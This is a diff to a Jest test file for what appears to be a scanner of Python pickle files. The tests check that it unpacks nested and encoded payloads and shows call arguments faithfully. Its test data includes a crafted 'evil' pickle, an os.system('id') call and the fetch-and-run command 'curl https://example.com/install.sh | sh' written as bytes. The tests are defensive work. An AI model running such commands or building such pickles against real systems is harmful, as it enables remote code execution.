@@ -3,6 +3,7 @@ import { describe, expect, test } from '@jest/globals';
 import { contentOf, factsOf } from '../../helpers/contract.js';
 import { readPickle } from '../../helpers/pickle-facts.js';
 import {
+  ascii,
   assemble,
   bin,
   call,
@@ -24,6 +25,12 @@ const f = (dotted: string, ...items: Code[]): Code => {
   return call(stackGlobal(dotted.slice(0, dot), dotted.slice(dot + 1)), ...items);
 };
 
+/** UNICODE: a line in which what no line can hold is escaped, as `pickle` writes it. */
+const line = (text: string): Code =>
+  ascii(
+    `V${text.replace(/[\\\0\n\r\x1a]/g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`)}\n`,
+  );
+
 async function handedOn(code: Code): Promise<Uint8Array[]> {
   const { artifacts, error } = await readPickle(assemble(proto(4), code, op.stop));
   expect(error).toBeUndefined();
@@ -34,7 +41,9 @@ describe('a pickle that a call is given', () => {
   test.each<[string, Code]>([
     ['as it is', f('pickle.loads', bin(evil))],
     ['as text', f('pickle.loads', f('_codecs.encode', str(latin1(evil)), str('latin1')))],
+    ['as text in a line', f('pickle.loads', f('_codecs.encode', line(latin1(evil)), str('latin1')))],
     ['in base64', f('pickle.loads', f('base64.b64decode', str(base64)))],
+    ['in base64 in a line', f('pickle.loads', f('base64.b64decode', line(base64)))],
     [
       'in base64 with lines',
       f('pickle.loads', f('base64.decodebytes', bin(Buffer.from(base64.replace(/(.{7})/g, '$1\n'))))),
@@ -82,6 +91,16 @@ describe('a pickle that a call is given', () => {
     expect(content && Buffer.from(content).equals(Buffer.from(long))).toBe(true);
   });
 
+  test('of any length comes out of a line', async () => {
+    const data = Buffer.alloc(200_000, '\\\n\xe9\\\\u004', 'latin1');
+    const long = assemble(proto(4), bin(data), op.stop);
+    const code = f('torch.storage._load_from_bytes', f('_codecs.encode', line(latin1(long)), line('latin1')));
+    const { uses, artifacts } = await readPickle(assemble(code, op.stop));
+    expect(uses.filter((use) => use.includes('?'))).toEqual([]);
+    const [content] = await Promise.all(artifacts.map(contentOf));
+    expect(content && Buffer.from(content).equals(Buffer.from(long))).toBe(true);
+  });
+
   test('is none where the file only makes up what is loaded', async () => {
     const { uses, artifacts } = await readPickle(
       assemble(proto(4), f('torch.storage._load_from_bytes', f('foo.make')), op.stop),
@@ -104,6 +123,26 @@ describe('a pickle that a call is given', () => {
     ).toEqual([]);
     expect(await handedOn(f('os.system', str('id')))).toEqual([]);
   });
+});
+
+test.each<[string, Code, string]>([
+  ['binary data', bin(Buffer.alloc(40, '\0\xff\x01', 'latin1')), "b'…' (40 bytes)"],
+  ['binary data as text', str('\x01\x02'.repeat(20)), "'…' (40 characters)"],
+  ['few bytes', bin(Buffer.from('\0\xff', 'latin1')), "b'\\x00\\xff'"],
+  [
+    'a command as bytes',
+    bin(Buffer.from('curl https://example.com/install.sh | sh')),
+    "b'curl https://example.com/install.sh | sh'",
+  ],
+  ['long text as bytes', bin(Buffer.alloc(500, 'a')), `b'${'a'.repeat(160)}'… (500 bytes)`],
+  [
+    'a character that cannot be shown',
+    str('curl https://example.com/\x01/install.sh | sh'),
+    "'curl https://example.com/\\x01/install.sh | sh'",
+  ],
+])('%s is shown as what it is', async (_, argument, shown) => {
+  const { uses } = await readPickle(assemble(proto(4), f('foo.bar', argument), op.stop));
+  expect(uses).toContain(`called foo.bar(${shown})`);
 });
 
 describe('source code that a call is given', () => {
